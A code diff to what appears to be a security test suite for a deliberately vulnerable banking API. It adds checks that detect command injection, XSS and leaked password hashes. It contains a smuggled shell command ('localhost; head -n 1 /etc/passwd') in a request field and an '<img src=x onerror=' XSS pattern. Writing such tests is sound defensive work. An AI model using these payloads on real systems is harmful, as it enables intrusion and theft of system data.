@@ -38,6 +38,11 @@ def _stolen_hash(answers: Answers) -> str | None:
     return f"root's hash in a note: {note[:21]}..." if "sha1$" in note else None
 
 
+def _command_output(answers: Answers) -> str | None:
+    lines = str(member(answers[-1], "output") or "").split("\n")
+    return next((f"/etc/passwd: {line}" for line in lines if line.startswith("root:")), None)
+
+
 BREACHES: Final = (
     Breach(
         id="sql-in-query",
@@ -75,7 +80,7 @@ BREACHES: Final = (
         threat=API8,
         code="inspect.xss",
         attack=lambda client: _note_in_statement(client, _IMAGE),
-        evidence=lambda answers: line_with(answers, "onerror="),
+        evidence=lambda answers: line_with(answers, "<img src=x onerror="),
         twin=lambda client: _note_in_statement(client, "an image of a fox, on error call me"),
         twin_works=found("an image of a fox"),
     ),
@@ -84,12 +89,10 @@ BREACHES: Final = (
         name="run a command on the bank's own server",
         threat=API8,
         code="inspect.command",
-        attack=lambda client: (client.send_json("POST", "/diagnostics/lookup", "carol", {"host": "localhost; id"}),),
-        evidence=lambda answers: (
-            f"output of id: {str(member(answers[-1], 'output')).rpartition('uid=')[1:]}"
-            if "uid=" in answers[-1].text
-            else None
+        attack=lambda client: (
+            client.send_json("POST", "/diagnostics/lookup", "carol", {"host": "localhost; head -n 1 /etc/passwd"}),
         ),
+        evidence=_command_output,
         twin=lambda client: (client.send_json("POST", "/diagnostics/lookup", "carol", {"host": "localhost"}),),
         twin_works=found("looking up localhost"),
     ),
